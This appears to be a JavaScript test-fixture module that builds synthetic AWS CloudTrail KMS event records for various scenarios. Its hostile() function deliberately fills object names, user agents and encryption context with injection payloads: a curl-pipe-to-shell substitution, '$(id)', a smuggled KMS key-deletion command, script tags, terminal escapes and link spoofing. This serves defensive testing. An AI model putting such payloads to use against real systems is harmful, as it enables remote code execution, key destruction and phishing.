// The records that matter, each in its own way; examples/README.md tells them in words.
import {
  DATA,
  FRANKFURT,
  IRELAND,
  JAVA,
  KEYS,
  PAYMENTS,
  REPORTING,
  RESCUER,
  role,
  TERRAFORM,
  through,
} from './cast.mjs';
import { hex, text, uuid } from './chance.mjs';
import { at, decrypts, kms, record, refused } from './record.mjs';

const ofObject = (path) => decrypts({ 'aws:s3:arn': `arn:aws:s3:::${path}` });
const keyId = (arn) => arn.split('/')[1];

export const workload = () =>
  kms(PAYMENTS, IRELAND, 'Decrypt', KEYS.ledger, {
    eventTime: at(11, 40),
    ...through('AWS Internal', role(PAYMENTS, 'billing-batch', hex(32))),
    ...refused(KEYS.ledger),
    requestParameters: ofObject('ledger-archive/2026/11/22.parquet'),
  });

const LOOPS = 36;
const LOOP_SECONDS = 25;
export const controller = () =>
  Array.from({ length: LOOPS }, (_, turn) => turn * LOOP_SECONDS).map((second) =>
    kms(DATA, IRELAND, 'TagResource', KEYS.oldEtl, {
      eventTime: at(Math.floor(second / 60), second % 60),
      userIdentity: role(DATA, 'crossplane-provider', '1795314000123456789'),
      userAgent: 'crossplane-provider-aws/v2.1.0 aws-sdk-go-v2/1.39.4 ua/2.1 os/linux lang/go#1.25.3 api/kms#1.46.2',
      ...refused(KEYS.oldEtl),
      requestParameters: { keyId: keyId(KEYS.oldEtl), tags: [{ tagKey: 'crossplane-name', tagValue: 'old-etl' }] },
      readOnly: false,
    }),
  );

export function keyOfPartner() {
  const caller = role(REPORTING, 'report-api', hex(32));
  return [at(2, 13), at(5, 14), at(8, 16), at(11, 19)].map((eventTime) =>
    kms(REPORTING, FRANKFURT, 'Decrypt', KEYS.ofPartner, {
      eventTime,
      ...through('AWS Internal', caller),
      ...refused(KEYS.ofPartner),
      requestParameters: ofObject('exchange/in/0007.csv'),
      sharedEventID: uuid(),
    }),
  );
}

export const rescue = () =>
  [at(8, 11), at(9, 2)].map((eventTime) =>
    kms(PAYMENTS, IRELAND, 'EnableKey', KEYS.payroll, {
      eventTime,
      userIdentity: role(PAYMENTS, RESCUER, 'alice@example.com'),
      sourceIPAddress: '203.0.113.24',
      userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
      ...refused(KEYS.payroll),
      requestParameters: { keyId: keyId(KEYS.payroll) },
      readOnly: false,
      sessionCredentialFromConsole: 'true',
    }),
  );

const HOSTILE_NAME = [
  '<https://login.example.com/reset|Invoice>\r\n',
  '\u001b[2J\u001b]8;;https://login.example.com\u0007$(curl -s login.example.com|sh)\n\n',
  'WHAT TO DO\n1. Nothing. @here <b>false alarm</b> \u202efdp.exe',
].join('');

/** Outsiders name the objects that they upload; whoever may call KMS writes all of the encryption context and the user agent. */
export function hostile() {
  const caller = role(PAYMENTS, 'upload-scanner', 'here@reset-password.example.com');
  return [
    kms(PAYMENTS, IRELAND, 'Decrypt', KEYS.uploads, {
      eventTime: at(4, 31),
      ...through('AWS Internal', caller),
      ...refused(KEYS.uploads),
      requestParameters: ofObject(`partner-uploads/in/${HOSTILE_NAME}`),
    }),
    kms(PAYMENTS, IRELAND, 'Encrypt', KEYS.uploads, {
      eventTime: at(4, 33),
      userIdentity: caller,
      userAgent: '<script>alert(1)</script>\u0007 `reboot` [click](https://login.example.com)',
      ...refused(KEYS.uploads),
      requestParameters: {
        ...decrypts({
          '<!channel> $(id)': '"; aws kms schedule-key-deletion --key-id alias/ledger-prod #\u0000\u200b',
        }),
        keyId: KEYS.uploads,
      },
    }),
  ];
}

const SHIPPER_LIMIT = 2048;
/** A line that a log shipper has cut at its limit: it is no JSON any more, and still says what matters. */
export function cutOff() {
  const line = JSON.stringify(
    kms(PAYMENTS, IRELAND, 'Decrypt', KEYS.invoices, {
      eventTime: at(12, 58),
      userIdentity: role(PAYMENTS, 'invoice-render', hex(32)),
      userAgent: `${JAVA} md/${text(300, 'abcdefghijklmnopqrstuvwxyz#')}`,
      ...refused(KEYS.invoices),
      requestParameters: decrypts({
        tenant: 'example.com',
        layout: `${text(400, 'abcdefghijklmnopqrstuvwxyz-/')}.html`,
      }),
    }),
  );
  if (line.length <= SHIPPER_LIMIT) throw new Error(`got a line of ${line.length} characters, wanted one to cut`);
  return line.slice(0, SHIPPER_LIMIT);
}

export const inventory = () =>
  kms(DATA, IRELAND, 'Decrypt', KEYS.etlFunctions, {
    eventTime: at(6, 44),
    ...through('lambda.amazonaws.com', role(DATA, 'AWSServiceRoleForConfig', 'LambdaDescribeHandlerSession')),
    ...refused(KEYS.etlFunctions),
    requestParameters: decrypts({ 'aws:lambda:FunctionArn': `arn:aws:lambda:${IRELAND}:${DATA}:function:etl-import` }),
  });

export const unconfirmed = () =>
  record(DATA, IRELAND, 'lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {
    eventTime: at(10, 27),
    userIdentity: role(DATA, 'deploy-features', 'gh-run-8829'),
    sourceIPAddress: '203.0.113.77',
    userAgent: TERRAFORM,
    errorCode: 'InvalidParameterValueException',
    errorMessage: `Lambda was unable to configure access to your environment variables because the KMS key is invalid for CreateGrant. Please check your KMS key settings. KMS Exception: KMSInvalidStateException KMS Message: ${KEYS.features} is pending deletion.`,
    requestParameters: { functionName: 'feature-store', kMSKeyArn: KEYS.features },
    readOnly: false,
  });

/** CloudTrail writes a call across accounts into both: the owner of the key is told no more than the calling account. */
export function acrossAccounts() {
  const caller = role(REPORTING, 'dashboard-export', hex(32));
  const copy = (recipient, userIdentity) =>
    kms(recipient, IRELAND, 'Decrypt', KEYS.sharedReports, {
      eventTime: at(7, 5),
      ...through('AWS Internal', userIdentity),
      ...refused(KEYS.sharedReports),
      requestParameters: ofObject('shared-reports/2026/week-47.pdf'),
      sharedEventID,
    });
  const sharedEventID = uuid();
  return {
    ofCaller: copy(REPORTING, caller),
    ofOwner: copy(PAYMENTS, { type: 'AWSAccount', principalId: caller.principalId, accountId: REPORTING }),
  };
}
